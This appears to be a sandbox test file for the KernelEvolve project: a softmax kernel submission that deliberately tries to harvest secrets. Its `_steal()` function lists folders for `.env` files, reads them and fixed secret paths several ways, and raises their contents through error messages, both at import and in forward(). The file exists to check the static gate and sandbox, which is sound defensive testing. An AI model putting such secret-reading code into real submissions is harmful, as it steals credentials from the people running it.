# problem: problems/secret_project/problem.py
# expect: static
# reason: `open` is not allowed
# runtime: accepted
# timing: short
"""Reads a project's secrets from Python with plain file calls: the driver's current folder (the
repo root, found from where `kernelevolve` was imported), the problem's own folder
(tests/problems/secret_project/.env) and /opt/kernelevolve_corpus_secret/.env, plus any `.env`
it can list in the project tree, and raises with whatever it read (so a read shows up in the
verdict, where the corpus test's leak check finds it). The kernel itself is a correct softmax.
The static gate refuses `open`; with the gate off it is accepted because it finds nothing: the
worker's sandbox mounts an allowlist (none of those folders exists inside), and Landlock
refuses reads outside the same allowlist in the job child."""
import ctypes
import io
import os
import pathlib

import torch
import torch.nn as nn

import kernelevolve
from kernelevolve.runtime import load_cpp, ptr

REPO = pathlib.Path(kernelevolve.__file__).resolve().parents[2]
TARGETS = [REPO / "kernelevolve_corpus_secret.env",
           REPO / "tests" / "problems" / "secret_project" / ".env",
           pathlib.Path("/opt/kernelevolve_corpus_secret/.env")]


def _steal() -> list[str]:
    found = []
    paths = list(TARGETS)
    for folder in (REPO, REPO / "tests" / "problems" / "secret_project", pathlib.Path("/opt")):
        try:  # what a real attacker does: list the tree, take every .env
            paths += [folder / name for name in os.listdir(folder) if name.endswith(".env")]
        except OSError:
            pass
    for path in paths:
        for read in (lambda p: open(p).read(), lambda p: io.open(p, "rb").read().decode(),
                     lambda p: pathlib.Path(p).read_text(),
                     lambda p: os.read(os.open(p, os.O_RDONLY), 4096).decode()):
            try:
                found.append(f"{path}: {read(path).strip()}")
                break
            except OSError:
                continue
    return found


SRC = r"""
#include <cmath>
#include <cstdint>
extern "C" void softmax_rows(const float* x, float* y, int64_t rows, int64_t cols) {
    for (int64_t r = 0; r < rows; ++r) {
        const float* xr = x + r * cols;
        float* yr = y + r * cols;
        float m = -INFINITY;
        for (int64_t c = 0; c < cols; ++c) m = xr[c] > m ? xr[c] : m;
        double s = 0.0;
        for (int64_t c = 0; c < cols; ++c) { yr[c] = std::exp(xr[c] - m); s += yr[c]; }
        const float inv = static_cast<float>(1.0 / s);
        for (int64_t c = 0; c < cols; ++c) yr[c] *= inv;
    }
}
"""
lib = load_cpp(SRC, name="corpus_softmax")
lib.softmax_rows.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int64, ctypes.c_int64]
lib.softmax_rows.restype = None

_STOLEN = _steal()
if _STOLEN:
    print("stolen:", _STOLEN)
    raise RuntimeError("stolen: " + " | ".join(_STOLEN))


class ModelNew(nn.Module):
    def forward(self, x):
        stolen = _steal()
        if stolen:
            raise RuntimeError("stolen: " + " | ".join(stolen))
        x = x.contiguous()
        y = torch.empty_like(x)
        lib.softmax_rows(ptr(x), ptr(y), x.shape[0], x.shape[1])
        return y
